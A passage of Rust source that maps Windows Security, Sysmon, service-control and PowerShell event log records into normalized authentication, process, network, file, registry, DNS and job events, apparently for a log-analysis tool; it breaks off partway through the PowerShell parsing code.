//! The Windows event model and its mapping to normalized events, shared by the EVTX,
//! Windows-JSON and ECS adapters.
//!
//! An adapter reads its shape into a [`WinRecord`] (the System fields and the EventData or
//! UserData fields as ordered name/value pairs); [`to_event`] maps it by channel family and
//! EventID to a class and typed fields. Data fields a mapping does not use go to the event's
//! attributes under their source names; an EventID with no mapping becomes class `other` with
//! all its data as attributes. `-`, empty strings and unknown `%%` message-table references
//! mean "absent". The field-by-field table is docs/adapters-windows.md.

use std::net::IpAddr;

use crate::event::{
    Activity, Auth, AuthProtocol, Device, Direction, Disposition, Endpoint, Event, EventClass,
    File, Integrity, Job, JobKind, Network, Outcome, Process, Query, Registry, Script, Source,
    Transport, User,
};

/// One Windows event: the System fields and the EventData/UserData fields.
#[derive(Debug, Clone, Default, PartialEq)]
pub(crate) struct WinRecord {
    pub provider: Option<String>,
    pub channel: Option<String>,
    pub event_id: Option<u32>,
    pub record_id: Option<u64>,
    /// Event time (System/TimeCreated), ms since the Unix epoch, UTC.
    pub time: Option<i64>,
    /// System/Computer: the host's FQDN or NetBIOS name.
    pub computer: Option<String>,
    /// System/Keywords (audit success 0x0020…, audit failure 0x0010…).
    pub keywords: Option<u64>,
    /// System/Security/@UserID, with the name and domain when the exporter resolved it.
    pub user_sid: Option<String>,
    pub user_name: Option<String>,
    pub user_domain: Option<String>,
    /// The rendered message, when the exporter kept one. Read only where the data lacks the
    /// facts (classic PowerShell 800 from NXLog); kept as an attribute when there is no data.
    pub message: Option<String>,
    /// EventData or UserData fields in source order; unnamed `<Data>` are `param1`, `param2`….
    pub data: Vec<(String, String)>,
}

const AUDIT_FAILURE: u64 = 0x0010_0000_0000_0000;
const AUDIT_SUCCESS: u64 = 0x0020_0000_0000_0000;

/// Which provider family an event comes from: EventIDs only mean something within one.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum Family {
    Security,
    Sysmon,
    ServiceControl,
    PowerShell,
    ClassicPowerShell,
    Other,
}

fn family(rec: &WinRecord) -> Family {
    let provider = rec.provider.as_deref().unwrap_or("").to_ascii_lowercase();
    let channel = rec.channel.as_deref().unwrap_or("").to_ascii_lowercase();
    if provider.contains("sysmon") || channel.starts_with("microsoft-windows-sysmon") {
        Family::Sysmon
    } else if provider == "microsoft-windows-security-auditing" || channel == "security" {
        Family::Security
    } else if provider == "service control manager" || (channel == "system" && provider.is_empty())
    {
        Family::ServiceControl
    } else if channel == "microsoft-windows-powershell/operational"
        || provider == "microsoft-windows-powershell"
    {
        Family::PowerShell
    } else if channel == "windows powershell" || provider == "powershell" {
        Family::ClassicPowerShell
    } else {
        Family::Other
    }
}

/// Maps one Windows record to a normalized event. `Err` only for a record with no EventID or
/// no time; an EventID without a mapping gives class `other`.
pub(crate) fn to_event(rec: &WinRecord, format: &str) -> Result<Option<Event>, String> {
    let code = rec
        .event_id
        .ok_or("missing field `EventID` (no Windows event id)")?;
    let time = rec
        .time
        .ok_or("missing field `TimeCreated` (no event time)")?;
    let (hostname, domain) = split_computer(rec.computer.as_deref());
    let mut ev = Event {
        time,
        class: EventClass::Other,
        source: Source {
            format: format.to_owned(),
            code: Some(code),
            channel: rec.channel.clone(),
            provider: rec.provider.clone(),
            record_id: rec.record_id,
        },
        device: Device {
            hostname,
            domain,
            ip: None,
        },
        ..Event::default()
    };
    if let Some(k) = rec.keywords {
        if k & AUDIT_FAILURE != 0 {
            ev.outcome = Outcome::Failure;
        } else if k & AUDIT_SUCCESS != 0 {
            ev.outcome = Outcome::Success;
        }
    }
    let mut f = Fields::new(rec);
    let sysmon = family(rec) == Family::Sysmon;
    // Sysmon's System user is always the Sysmon service, and its UtcTime repeats the event
    // time (kept only as a process start time): neither says anything.
    let mut system_user_used = sysmon;
    if sysmon && code != 1 {
        f.raw("UtcTime");
    }
    match (family(rec), code) {
        (Family::Security, 4624) => logon(&mut f, &mut ev, Activity::Logon),
        (Family::Security, 4625) => {
            logon(&mut f, &mut ev, Activity::Logon);
            ev.outcome = Outcome::Failure;
        }
        (Family::Security, 4634 | 4647) => logon(&mut f, &mut ev, Activity::Logoff),
        (Family::Security, 4648) => explicit_credentials(&mut f, &mut ev),
        (Family::Security, 4672) => special_logon(&mut f, &mut ev),
        (Family::Security, 4768 | 4769 | 4771) => kerberos(&mut f, &mut ev, code),
        (Family::Security, 4776) => ntlm_validation(&mut f, &mut ev),
        (Family::Security, 4688) => security_process_create(&mut f, &mut ev),
        (Family::Security, 4689) => security_process_exit(&mut f, &mut ev),
        (Family::Security, 4697) => security_service_install(&mut f, &mut ev),
        (Family::Security, 4698 | 4702) => scheduled_task(&mut f, &mut ev, code),
        (Family::Security, 5140 | 5145) => share_access(&mut f, &mut ev),
        (Family::Security, 5156 | 5157) => wfp_connection(&mut f, &mut ev, code),
        (Family::ServiceControl, 7045) => {
            system_user_used = service_install(&mut f, &mut ev, rec);
        }
        (Family::ServiceControl, 7036) => service_state(&mut f, &mut ev),
        (Family::Sysmon, 1) => sysmon_process_create(&mut f, &mut ev),
        (Family::Sysmon, 5) => sysmon_process_exit(&mut f, &mut ev),
        (Family::Sysmon, 3) => sysmon_network(&mut f, &mut ev),
        (Family::Sysmon, 7 | 8 | 10) => sysmon_process_target(&mut f, &mut ev, code),
        (Family::Sysmon, 2 | 11 | 15 | 17 | 18 | 23 | 26) => sysmon_file(&mut f, &mut ev, code),
        (Family::Sysmon, 12..=14) => sysmon_registry(&mut f, &mut ev, code),
        (Family::Sysmon, 22) => sysmon_dns(&mut f, &mut ev),
        (Family::PowerShell, 4104) => {
            system_user_used = script_block(&mut f, &mut ev, rec);
        }
        (Family::PowerShell, 4103) => {
            system_user_used = module_logging(&mut f, &mut ev, rec);
        }
        (Family::ClassicPowerShell, 800) => {
            system_user_used = pipeline_details(&mut f, &mut ev, rec);
        }
        _ => {}
    }
    // source data first, then what a mapping drew out of composite fields
    let drawn = std::mem::take(&mut ev.attributes);
    let mut attributes = f.rest();
    attributes.extend(drawn);
    if !system_user_used && let Some(sid) = meaningful(rec.user_sid.as_deref()) {
        attributes.push(("UserID".to_owned(), sid.to_owned()));
    }
    // a rendered message is kept only where there is no data to carry the facts
    if rec.data.is_empty()
        && ev.class == EventClass::Other
        && let Some(m) = meaningful(rec.message.as_deref())
    {
        attributes.push(("Message".to_owned(), m.to_owned()));
    }
    ev.attributes = attributes;
    Ok(Some(ev))
}

// ---------------------------------------------------------------------------------------
// Field access

/// The data fields of one record, remembering which ones a mapping used.
struct Fields<'a> {
    data: &'a [(String, String)],
    used: Vec<bool>,
}

impl<'a> Fields<'a> {
    fn new(rec: &'a WinRecord) -> Self {
        Fields {
            data: &rec.data,
            used: vec![false; rec.data.len()],
        }
    }

    /// The raw value of `name` (marked used), absent or not.
    fn raw(&mut self, name: &str) -> Option<&'a str> {
        let data = self.data;
        let i = data
            .iter()
            .position(|(k, _)| k == name)
            .or_else(|| data.iter().position(|(k, _)| k.eq_ignore_ascii_case(name)))?;
        self.used[i] = true;
        Some(data[i].1.as_str())
    }

    /// The value of `name` when it carries something.
    fn get(&mut self, name: &str) -> Option<&'a str> {
        meaningful(self.raw(name))
    }

    fn string(&mut self, name: &str) -> Option<String> {
        self.get(name).map(str::to_owned)
    }

    fn number(&mut self, name: &str) -> Option<u64> {
        self.get(name).and_then(parse_number)
    }

    fn u32(&mut self, name: &str) -> Option<u32> {
        self.number(name).and_then(|n| u32::try_from(n).ok())
    }

    fn ip(&mut self, name: &str) -> Option<IpAddr> {
        self.get(name).and_then(parse_ip)
    }

    fn port(&mut self, name: &str) -> Option<u16> {
        self.number(name).and_then(|n| u16::try_from(n).ok())
    }

    fn guid(&mut self, name: &str) -> Option<u128> {
        self.get(name).and_then(parse_guid)
    }

    fn flag(&mut self, name: &str) -> Option<bool> {
        // `%%1842`/`%%1843` (Yes/No) are read before placeholders count as absent
        match self.raw(name)?.trim().to_ascii_lowercase().as_str() {
            "true" | "1" | "%%1842" | "yes" => Some(true),
            "false" | "0" | "%%1843" | "no" => Some(false),
            _ => None,
        }
    }

    /// An account from four fields (name, domain, SID, logon id); `None` when all are absent.
    fn user(&mut self, name: &str, domain: &str, sid: &str, logon_id: &str) -> Option<User> {
        let user = User {
            name: self.string(name),
            domain: self.string(domain),
            uid: self.string(sid).filter(|s| s != "S-1-0-0"),
            logon_id: self.number(logon_id),
        };
        // the anonymous subject (`-`, `S-1-0-0`, `0x0`) is no user at all
        if user.name.is_none() && user.domain.is_none() && user.uid.is_none() {
            return None;
        }
        Some(user)
    }

    /// An account written `DOMAIN\name` (Sysmon `User`).
    fn qualified_user(&mut self, field: &str) -> Option<User> {
        self.get(field)
            .and_then(|text| some_user(split_account(text)))
    }

    /// Unused fields that carry something, in source order (known `%%` codes in words).
    fn rest(&self) -> Vec<(String, String)> {
        self.data
            .iter()
            .zip(&self.used)
            .filter(|(_, used)| !**used)
            .filter_map(|((k, v), _)| {
                let v = v.trim();
                if let Some(word) = message_code(v) {
                    return Some((k.clone(), word.to_owned()));
                }
                meaningful(Some(v)).map(|v| (k.clone(), v.to_owned()))
            })
            .collect()
    }
}

/// A value that carries something: not empty, `-` or an unresolved message-table reference
/// (`%%` and digits only, such as `%%1833`). Sysmon doubles a literal `%`, so `%%COMSPEC%% /c …`
/// is data and is kept.
fn meaningful(value: Option<&str>) -> Option<&str> {
    let v = value?.trim();
    let message_ref = v
        .strip_prefix("%%")
        .is_some_and(|rest| !rest.is_empty() && rest.bytes().all(|b| b.is_ascii_digit()));
    if v.is_empty() || v == "-" || message_ref {
        None
    } else {
        Some(v)
    }
}

/// The common Security-log message-table references, in words.
fn message_code(value: &str) -> Option<&'static str> {
    Some(match value {
        "%%1832" => "Identification",
        "%%1833" => "Impersonation",
        "%%1840" => "Delegation",
        "%%1842" => "Yes",
        "%%1843" => "No",
        "%%1936" => "TokenElevationTypeDefault (1)",
        "%%1937" => "TokenElevationTypeFull (2)",
        "%%1938" => "TokenElevationTypeLimited (3)",
        "%%14592" => "Inbound",
        "%%14593" => "Outbound",
        _ => return None,
    })
}

fn some_user(user: User) -> Option<User> {
    (user != User::default()).then_some(user)
}

/// `0x1a4` (hex) or `420` (decimal).
pub(crate) fn parse_number(text: &str) -> Option<u64> {
    let t = text.trim();
    match t.strip_prefix("0x").or_else(|| t.strip_prefix("0X")) {
        Some(hex) => u64::from_str_radix(hex, 16).ok(),
        None => t.parse().ok(),
    }
}

/// An IP as Windows writes it: `::ffff:10.0.0.5` is IPv4, a zone id is dropped, `-` is absent.
pub(crate) fn parse_ip(text: &str) -> Option<IpAddr> {
    let t = text.trim().trim_start_matches('[').trim_end_matches(']');
    let t = t.split('%').next().unwrap_or(t);
    match t.parse::<IpAddr>().ok()? {
        IpAddr::V6(v6) => Some(match v6.to_ipv4_mapped() {
            Some(v4) => IpAddr::V4(v4),
            None => IpAddr::V6(v6),
        }),
        v4 => Some(v4),
    }
}

pub(crate) use crate::event::parse_guid;

/// `DOMAIN\name` or `name@domain` into a user.
pub(crate) fn split_account(text: &str) -> User {
    let (domain, name) = match text.split_once('\\') {
        Some((d, n)) => (Some(d), n),
        None => match text.split_once('@') {
            Some((n, d)) => (Some(d), n),
            None => (None, text),
        },
    };
    User {
        name: meaningful(Some(name)).map(str::to_owned),
        domain: meaningful(domain).map(str::to_owned),
        ..User::default()
    }
}

/// `WORKSTATION6.theshire.local` into host name and domain.
pub(crate) fn split_computer(computer: Option<&str>) -> (Option<String>, Option<String>) {
    match meaningful(computer) {
        None => (None, None),
        Some(c) => match c.split_once('.') {
            Some((host, domain)) if !host.is_empty() && !domain.is_empty() => {
                (Some(host.to_owned()), Some(domain.to_owned()))
            }
            _ => (Some(c.to_owned()), None),
        },
    }
}

fn auth_protocol(package: &str) -> AuthProtocol {
    let p = package.to_ascii_lowercase();
    if p.contains("ntlm") || p.starts_with("microsoft_authentication_package") {
        AuthProtocol::Ntlm
    } else if p.contains("kerberos") {
        AuthProtocol::Kerberos
    } else if p.contains("negotiate") {
        AuthProtocol::Negotiate
    } else {
        AuthProtocol::Other
    }
}

/// Sysmon `IntegrityLevel` words or a 4688 `MandatoryLabel` SID.
fn integrity(text: &str) -> Integrity {
    match text.to_ascii_lowercase().as_str() {
        "system" | "s-1-16-16384" | "s-1-16-20480" | "s-1-16-28672" => Integrity::System,
        "high" | "s-1-16-12288" => Integrity::High,
        "medium" | "mediumplus" | "s-1-16-8192" | "s-1-16-8448" => Integrity::Medium,
        "low" | "s-1-16-4096" => Integrity::Low,
        "untrusted" | "s-1-16-0" => Integrity::Untrusted,
        _ => Integrity::Unknown,
    }
}

/// 4697 `ServiceStartType` numbers in the words 7045 uses.
fn start_type_word(text: &str) -> String {
    match parse_number(text) {
        Some(0) => "boot start".to_owned(),
        Some(1) => "system start".to_owned(),
        Some(2) => "auto start".to_owned(),
        Some(3) => "demand start".to_owned(),
        Some(4) => "disabled".to_owned(),
        _ => text.to_owned(),
    }
}

fn endpoint(ip: Option<IpAddr>, port: Option<u16>, hostname: Option<String>) -> Option<Endpoint> {
    let ep = Endpoint { ip, port, hostname };
    (ep != Endpoint::default()).then_some(ep)
}

fn process_ref(pid: Option<u32>, guid: Option<u128>, image: Option<String>) -> Option<Process> {
    let p = Process {
        pid,
        guid,
        image,
        ..Process::default()
    };
    (p != Process::default()).then_some(p)
}

fn sysmon_time(text: Option<&str>) -> Option<i64> {
    // Sysmon writes `2020-09-20 16:16:37.523`, UTC without an offset.
    let t = text?.trim();
    format!("{}Z", t.replacen(' ', "T", 1))
        .parse::<jiff::Timestamp>()
        .ok()
        .map(|ts| ts.as_millisecond())
}

// ---------------------------------------------------------------------------------------
// Authentication

/// The failure status: SubStatus when it says more than Status.
fn status(f: &mut Fields) -> Option<u32> {
    let status = f.u32("Status");
    let sub = f.u32("SubStatus");
    match (status, sub) {
        (_, Some(s)) if s != 0 => Some(s),
        (s, _) => s,
    }
}

fn logon(f: &mut Fields, ev: &mut Event, activity: Activity) {
    ev.class = EventClass::Authentication;
    ev.activity = activity;
    ev.outcome = Outcome::Success;
    ev.user = f.user(
        "TargetUserName",
        "TargetDomainName",
        "TargetUserSid",
        "TargetLogonId",
    );
    ev.actor.user = f.user(
        "SubjectUserName",
        "SubjectDomainName",
        "SubjectUserSid",
        "SubjectLogonId",
    );
    ev.actor.process = process_ref(
        f.u32("ProcessId").filter(|p| *p != 0),
        None,
        f.string("ProcessName"),
    );
    ev.src = endpoint(
        f.ip("IpAddress"),
        f.port("IpPort").filter(|p| *p != 0),
        f.string("WorkstationName"),
    );
    let package = f.get("AuthenticationPackageName");
    ev.auth = Some(Auth {
        logon_type: f.number("LogonType").and_then(|n| u8::try_from(n).ok()),
        protocol: package.map_or(AuthProtocol::Unknown, auth_protocol),
        key_length: f.number("KeyLength").and_then(|n| u16::try_from(n).ok()),
        logon_process: f.string("LogonProcessName"),
        status_code: status(f),
        elevated: f.flag("ElevatedToken").unwrap_or(false),
        ..Auth::default()
    });
}

fn explicit_credentials(f: &mut Fields, ev: &mut Event) {
    logon(f, ev, Activity::CredentialValidation);
    if let Some(auth) = ev.auth.as_mut() {
        auth.service = f.string("TargetServerName");
    }
}

fn special_logon(f: &mut Fields, ev: &mut Event) {
    ev.class = EventClass::Authentication;
    ev.activity = Activity::Logon;
    ev.outcome = Outcome::Success;
    ev.user = f.user(
        "SubjectUserName",
        "SubjectDomainName",
        "SubjectUserSid",
        "SubjectLogonId",
    );
    ev.auth = Some(Auth {
        elevated: true,
        ..Auth::default()
    });
}

fn kerberos(f: &mut Fields, ev: &mut Event, code: u32) {
    ev.class = EventClass::Authentication;
    ev.activity = if code == 4769 {
        Activity::ServiceTicket
    } else {
        Activity::TicketRequest
    };
    let mut user = f
        .get("TargetUserName")
        .map(split_account)
        .unwrap_or_default();
    if let Some(domain) = f.string("TargetDomainName") {
        user.domain = Some(domain);
    }
    user.uid = f.string("TargetSid");
    ev.user = some_user(user);
    ev.src = endpoint(
        f.ip("IpAddress"),
        f.port("IpPort").filter(|p| *p != 0),
        None,
    );
    let status = f.u32("Status");
    ev.outcome = match (code, status) {
        (4771, _) => Outcome::Failure,
        (_, Some(0)) => Outcome::Success,
        (_, Some(_)) => Outcome::Failure,
        (_, None) => ev.outcome,
    };
    ev.auth = Some(Auth {
        protocol: AuthProtocol::Kerberos,
        status_code: status,
        service: f.string("ServiceName"),
        ticket_options: f.u32("TicketOptions"),
        ticket_encryption: f.u32("TicketEncryptionType"),
        ..Auth::default()
    });
}

fn ntlm_validation(f: &mut Fields, ev: &mut Event) {
    ev.class = EventClass::Authentication;
    ev.activity = Activity::CredentialValidation;
    ev.user = f
        .get("TargetUserName")
        .and_then(|t| some_user(split_account(t)));
    ev.src = endpoint(None, None, f.string("Workstation"));
    let status = f.u32("Status");
    ev.outcome = match status {
        Some(0) => Outcome::Success,
        Some(_) => Outcome::Failure,
        None => ev.outcome,
    };
    ev.auth = Some(Auth {
        protocol: f
            .get("PackageName")
            .map_or(AuthProtocol::Ntlm, auth_protocol),
        status_code: status,
        ..Auth::default()
    });
}

// ---------------------------------------------------------------------------------------
// Processes

fn security_process_create(f: &mut Fields, ev: &mut Event) {
    ev.class = EventClass::Process;
    ev.activity = Activity::Create;
    ev.actor.user = f.user(
        "SubjectUserName",
        "SubjectDomainName",
        "SubjectUserSid",
        "SubjectLogonId",
    );
    // The target account is set only when the new process runs as another account.
    let target = f.user(
        "TargetUserName",
        "TargetDomainName",
        "TargetUserSid",
        "TargetLogonId",
    );
    ev.user = target.filter(|u| u.name.is_some());
    let parent_pid = f.u32("ProcessId");
    let parent_image = f.string("ParentProcessName");
    ev.process = Some(Process {
        pid: f.u32("NewProcessId"),
        image: f.string("NewProcessName"),
        cmd_line: f.string("CommandLine"),
        integrity: f
            .get("MandatoryLabel")
            .map_or(Integrity::Unknown, integrity),
        parent_pid,
        parent_image: parent_image.clone(),
        ..Process::default()
    });
    ev.actor.process = process_ref(parent_pid, None, parent_image);
}

fn security_process_exit(f: &mut Fields, ev: &mut Event) {
    ev.class = EventClass::Process;
    ev.activity = Activity::Delete;
    ev.actor.user = f.user(
        "SubjectUserName",
        "SubjectDomainName",
        "SubjectUserSid",
        "SubjectLogonId",
    );
    ev.process = process_ref(f.u32("ProcessId"), None, f.string("ProcessName"));
}

fn sysmon_process_create(f: &mut Fields, ev: &mut Event) {
    ev.class = EventClass::Process;
    ev.activity = Activity::Create;
    let mut user = f.qualified_user("User");
    if let Some(u) = user.as_mut() {
        u.logon_id = f.number("LogonId");
    }
    ev.user = user;
    ev.actor.user = f.qualified_user("ParentUser");
    let parent = Process {
        pid: f.u32("ParentProcessId"),
        guid: f.guid("ParentProcessGuid"),
        image: f.string("ParentImage"),
        cmd_line: f.string("ParentCommandLine"),
        ..Process::default()
    };
    ev.process = Some(Process {
        pid: f.u32("ProcessId"),
        guid: f.guid("ProcessGuid"),
        image: f.string("Image"),
        cmd_line: f.string("CommandLine"),
        cwd: f.string("CurrentDirectory"),
        integrity: f
            .get("IntegrityLevel")
            .map_or(Integrity::Unknown, integrity),
        hashes: f.string("Hashes"),
        start_time: sysmon_time(f.get("UtcTime")),
        parent_pid: parent.pid,
        parent_guid: parent.guid,
        parent_image: parent.image.clone(),
        parent_cmd_line: parent.cmd_line.clone(),
    });
    ev.actor.process = (parent != Process::default()).then_some(parent);
}

fn sysmon_process_exit(f: &mut Fields, ev: &mut Event) {
    ev.class = EventClass::Process;
    ev.activity = Activity::Delete;
    ev.user = f.qualified_user("User");
    ev.process = process_ref(f.u32("ProcessId"), f.guid("ProcessGuid"), f.string("Image"));
}

/// Sysmon 7 (image loaded), 8 (remote thread), 10 (process access): the acting process is
/// the event's process; the loaded image or target process image is `file.path`.
fn sysmon_process_target(f: &mut Fields, ev: &mut Event, code: u32) {
    ev.class = EventClass::Process;
    ev.activity = Activity::Open;
    let (process, target) = if code == 7 {
        (
            process_ref(f.u32("ProcessId"), f.guid("ProcessGuid"), f.string("Image")),
            File {
                path: f.string("ImageLoaded"),
                hashes: f.string("Hashes"),
                ..File::default()
            },
        )
    } else {
        (
            process_ref(
                f.u32("SourceProcessId"),
                f.guid("SourceProcessGuid"),
                f.string("SourceImage"),
            ),
            File {
                path: f.string("TargetImage"),
                ..File::default()
            },
        )
    };
    ev.process = process;
    ev.user = f
        .qualified_user("User")
        .or_else(|| f.qualified_user("SourceUser"));
    ev.file = (target != File::default()).then_some(target);
}

// ---------------------------------------------------------------------------------------
// Network

fn transport(text: &str) -> (Transport, Option<u8>) {
    match text.to_ascii_lowercase().as_str() {
        "tcp" | "6" => (Transport::Tcp, Some(6)),
        "udp" | "17" => (Transport::Udp, Some(17)),
        "icmp" | "1" => (Transport::Icmp, Some(1)),
        other => (
            Transport::Other,
            other.parse::<u8>().ok().or(match other {
                "icmpv6" | "58" => Some(58),
                _ => None,
            }),
        ),
    }
}

fn sysmon_network(f: &mut Fields, ev: &mut Event) {
    ev.class = EventClass::Network;
    ev.activity = Activity::Traffic;
    ev.actor.process = process_ref(f.u32("ProcessId"), f.guid("ProcessGuid"), f.string("Image"));
    ev.actor.user = f.qualified_user("User");
    ev.src = endpoint(
        f.ip("SourceIp"),
        f.port("SourcePort"),
        f.string("SourceHostname"),
    );
    ev.dst = endpoint(
        f.ip("DestinationIp"),
        f.port("DestinationPort"),
        f.string("DestinationHostname"),
    );
    let (transport, protocol_num) = f
        .get("Protocol")
        .map_or((Transport::Unknown, None), transport);
    let direction = match f.flag("Initiated") {
        Some(true) => Direction::Outbound,
        Some(false) => Direction::Inbound,
        None => Direction::Unknown,
    };
    ev.network = Some(Network {
        transport,
        protocol_num,
        direction,
        // Sysmon reports a TCP connection once it is made
        disposition: if transport == Transport::Tcp {
            Disposition::Established
        } else {
            Disposition::Unknown
        },
        ..Network::default()
    });
}

/// Security 5156 (permitted) and 5157 (blocked) Windows Filtering Platform connections.
/// Source is the initiator in both directions.
fn wfp_connection(f: &mut Fields, ev: &mut Event, code: u32) {
    ev.class = EventClass::Network;
    ev.activity = if code == 5157 {
        Activity::Refuse
    } else {
        Activity::Traffic
    };
    ev.actor.process = process_ref(
        f.u32("ProcessID").or(f.u32("ProcessId")),
        None,
        f.string("Application"),
    );
    ev.src = endpoint(f.ip("SourceAddress"), f.port("SourcePort"), None);
    ev.dst = endpoint(f.ip("DestAddress"), f.port("DestPort"), None);
    let (transport, protocol_num) = f
        .get("Protocol")
        .map_or((Transport::Unknown, None), transport);
    let direction = match f.raw("Direction").map(str::trim) {
        Some("%%14592") | Some("Inbound") => Direction::Inbound,
        Some("%%14593") | Some("Outbound") => Direction::Outbound,
        _ => Direction::Unknown,
    };
    ev.network = Some(Network {
        transport,
        protocol_num,
        direction,
        disposition: if code == 5157 {
            Disposition::Blocked
        } else {
            Disposition::Allowed
        },
        ..Network::default()
    });
}

// ---------------------------------------------------------------------------------------
// Files, shares, registry, DNS

fn sysmon_file(f: &mut Fields, ev: &mut Event, code: u32) {
    ev.class = EventClass::File;
    ev.activity = match code {
        2 => Activity::Modify,
        18 => Activity::Open,
        23 | 26 => Activity::Delete,
        _ => Activity::Create,
    };
    ev.actor.process = process_ref(f.u32("ProcessId"), f.guid("ProcessGuid"), f.string("Image"));
    ev.actor.user = f.qualified_user("User");
    let path = if matches!(code, 17 | 18) {
        f.string("PipeName")
    } else {
        f.string("TargetFilename")
    };
    ev.file = Some(File {
        path,
        hashes: f.string("Hashes").or_else(|| f.string("Hash")),
        ..File::default()
    });
}

fn share_access(f: &mut Fields, ev: &mut Event) {
    ev.class = EventClass::File;
    ev.activity = Activity::Open;
    if ev.outcome == Outcome::Unknown {
        ev.outcome = Outcome::Success;
    }
    ev.actor.user = f.user(
        "SubjectUserName",
        "SubjectDomainName",
        "SubjectUserSid",
        "SubjectLogonId",
    );
    ev.src = endpoint(f.ip("IpAddress"), f.port("IpPort"), None);
    ev.file = Some(File {
        share_name: f.string("ShareName"),
        relative_target: f.string("RelativeTargetName"),
        access_mask: f.u32("AccessMask"),
        ..File::default()
    });
}

fn sysmon_registry(f: &mut Fields, ev: &mut Event, code: u32) {
    ev.class = EventClass::Registry;
    let kind = f.get("EventType").unwrap_or("");
    ev.activity = match (code, kind) {
        (13, _) | (_, "SetValue") => Activity::Modify,
        (14, _) | (_, "RenameKey") => Activity::Rename,
        (_, "CreateKey") | (_, "CreateValue") => Activity::Create,
        (_, "DeleteKey") | (_, "DeleteValue") => Activity::Delete,
        _ => Activity::Unknown,
    };
    ev.actor.process = process_ref(f.u32("ProcessId"), f.guid("ProcessGuid"), f.string("Image"));
    ev.actor.user = f.qualified_user("User");
    let target = f.string("TargetObject");
    // A value event's TargetObject is `key\value`: split off the value name.
    let is_value = code == 13 || kind.ends_with("Value");
    let (key, value_name) = match target {
        Some(t) if is_value => match t.rsplit_once('\\') {
            Some((k, v)) => (Some(k.to_owned()), Some(v.to_owned())),
            None => (Some(t), None),
        },
        t => (t, None),
    };
    ev.registry = Some(Registry {
        key,
        value_name,
        value_data: f.string("Details").or_else(|| f.string("NewName")),
    });
}

fn sysmon_dns(f: &mut Fields, ev: &mut Event) {
    ev.class = EventClass::Dns;
    ev.activity = Activity::Query;
    ev.actor.process = process_ref(f.u32("ProcessId"), f.guid("ProcessGuid"), f.string("Image"));
    ev.actor.user = f.qualified_user("User");
    if let Some(status) = f.number("QueryStatus") {
        ev.outcome = if status == 0 {
            Outcome::Success
        } else {
            Outcome::Failure
        };
    }
    // `type:  5 host.example;::ffff:10.0.0.5;` → `host.example,10.0.0.5`
    let answers = f.get("QueryResults").map(|r| {
        r.split(';')
            .map(|a| {
                let a = a.trim();
                let a = a.strip_prefix("type:").map_or(a, |t| {
                    t.trim_start().trim_start_matches(char::is_numeric).trim()
                });
                match parse_ip(a) {
                    Some(ip) => ip.to_string(),
                    None => a.to_owned(),
                }
            })
            .filter(|a| !a.is_empty())
            .collect::<Vec<_>>()
            .join(",")
    });
    ev.query = Some(Query {
        name: f.string("QueryName"),
        detail: answers.filter(|a| !a.is_empty()),
        ..Query::default()
    });
}

// ---------------------------------------------------------------------------------------
// Services and scheduled tasks

/// System 7045. Returns whether the System user (who installed it) was used.
fn service_install(f: &mut Fields, ev: &mut Event, rec: &WinRecord) -> bool {
    ev.class = EventClass::Job;
    ev.activity = Activity::Create;
    ev.outcome = Outcome::Success;
    ev.job = Some(Job {
        kind: JobKind::Service,
        name: f.string("ServiceName"),
        command: f.string("ImagePath"),
        start_type: f.string("StartType"),
        account: f.string("AccountName"),
    });
    ev.actor.user = system_user(rec);
    ev.actor.user.is_some()
}

fn security_service_install(f: &mut Fields, ev: &mut Event) {
    ev.class = EventClass::Job;
    ev.activity = Activity::Create;
    ev.actor.user = f.user(
        "SubjectUserName",
        "SubjectDomainName",
        "SubjectUserSid",
        "SubjectLogonId",
    );
    ev.job = Some(Job {
        kind: JobKind::Service,
        name: f.string("ServiceName"),
        command: f.string("ServiceFileName"),
        start_type: f.get("ServiceStartType").map(start_type_word),
        account: f.string("ServiceAccount"),
    });
}

/// System 7036: a service entered a state (`param1` name, `param2` state).
fn service_state(f: &mut Fields, ev: &mut Event) {
    ev.class = EventClass::Job;
    let state = f.raw("param2").map(str::trim).unwrap_or("");
    ev.activity = if state.eq_ignore_ascii_case("running") {
        Activity::Execute
    } else {
        Activity::Other
    };
    // the state stays an attribute: mark it unused again
    if let Some(i) = f.data.iter().position(|(k, _)| k == "param2") {
        f.used[i] = false;
    }
    ev.job = Some(Job {
        kind: JobKind::Service,
        name: f.string("param1"),
        ..Job::default()
    });
}

fn scheduled_task(f: &mut Fields, ev: &mut Event, code: u32) {
    ev.class = EventClass::Job;
    ev.activity = if code == 4702 {
        Activity::Modify
    } else {
        Activity::Create
    };
    ev.actor.user = f.user(
        "SubjectUserName",
        "SubjectDomainName",
        "SubjectUserSid",
        "SubjectLogonId",
    );
    let content = f
        .raw("TaskContent")
        .or_else(|| f.raw("TaskContentNew"))
        .unwrap_or("");
    let command = xml_text(content, "Command").map(|cmd| match xml_text(content, "Arguments") {
        Some(args) => format!("{cmd} {args}"),
        None => cmd,
    });
    ev.job = Some(Job {
        kind: JobKind::ScheduledTask,
        name: f.string("TaskName"),
        command,
        start_type: None,
        account: xml_text(content, "UserId").or_else(|| xml_text(content, "GroupId")),
    });
}

/// The text of the first `<tag>…</tag>` in a task's XML, entities decoded.
fn xml_text(xml: &str, tag: &str) -> Option<String> {
    let open = format!("<{tag}>");
    let close = format!("</{tag}>");
    let start = xml.find(&open)? + open.len();
    let end = start + xml[start..].find(&close)?;
    let text = xml[start..end]
        .replace("&lt;", "<")
        .replace("&gt;", ">")
        .replace("&quot;", "\"")
        .replace("&apos;", "'")
        .replace("&amp;", "&");
    meaningful(Some(&text)).map(str::to_owned)
}

fn system_user(rec: &WinRecord) -> Option<User> {
    some_user(User {
        name: meaningful(rec.user_name.as_deref()).map(str::to_owned),
        domain: meaningful(rec.user_domain.as_deref()).map(str::to_owned),
        uid: meaningful(rec.user_sid.as_deref()).map(str::to_owned),
        logon_id: None,
    })
}

// ---------------------------------------------------------------------------------------
// PowerShell

/// PowerShell 4104. Returns whether the System user was used.
fn script_block(f: &mut Fields, ev: &mut Event, rec: &WinRecord) -> bool {
    ev.class = EventClass::Script;
    ev.activity = Activity::Execute;
    ev.script = Some(Script {
        text: f.string("ScriptBlockText"),
        block_id: f.string("ScriptBlockId"),
        part: f.u32("MessageNumber"),
        parts: f.u32("MessageTotal"),
        host_application: None,
    });
    ev.actor.user = system_user(rec);
    ev.actor.user.is_some()
}

/// `Key = value` (4103 ContextInfo) or `Key=value` (800) lines.
fn context_value(text: &str, key: &str) -> Option<String> {
    text.lines().find_map(|line| {
        let (k, v) = line.split_once('=')?;
        (k.trim() == key)
            .then(|| v.trim())
            .and_then(|v| meaningful(Some(v)))
